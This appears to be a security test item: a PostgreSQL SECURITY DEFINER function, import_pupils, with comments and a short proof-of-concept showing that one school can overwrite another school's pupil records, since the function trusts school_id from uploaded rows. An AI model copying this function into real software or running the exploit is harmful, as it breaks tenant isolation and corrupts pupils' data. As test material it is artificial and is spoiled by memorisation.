-- The import takes the school from the uploaded rows and runs as its owner: it overwrites pupils of other
-- schools.
-- about: import_pupils, pupils
-- as: hf_bellringer_app
-- exploit: SET app.school_id = '1';
-- exploit: SELECT 'imported=' || import_pupils('[{"school_id": 2, "id": 7, "school_class_id": 1,
-- exploit:   "full_name": "Overwritten"}]');
-- exploit: SET app.school_id = '2';
-- exploit: SELECT full_name FROM pupils;
-- shows: Overwritten
CREATE FUNCTION import_pupils(p_rows jsonb) RETURNS integer
LANGUAGE plpgsql SECURITY DEFINER
SET search_path = public, pg_temp
AS $$
DECLARE n integer;
BEGIN
  INSERT INTO pupils (school_id, id, school_class_id, full_name)
  SELECT r.school_id, r.id, r.school_class_id, r.full_name FROM jsonb_populate_recordset(NULL::pupils,
    p_rows) r
  ON CONFLICT (school_id, id) DO UPDATE
    SET full_name = EXCLUDED.full_name, school_class_id = EXCLUDED.school_class_id;
  GET DIAGNOSTICS n = ROW_COUNT;
  RETURN n;
END $$;
REVOKE EXECUTE ON FUNCTION import_pupils(jsonb) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION import_pupils(jsonb) TO hf_bellringer_app;
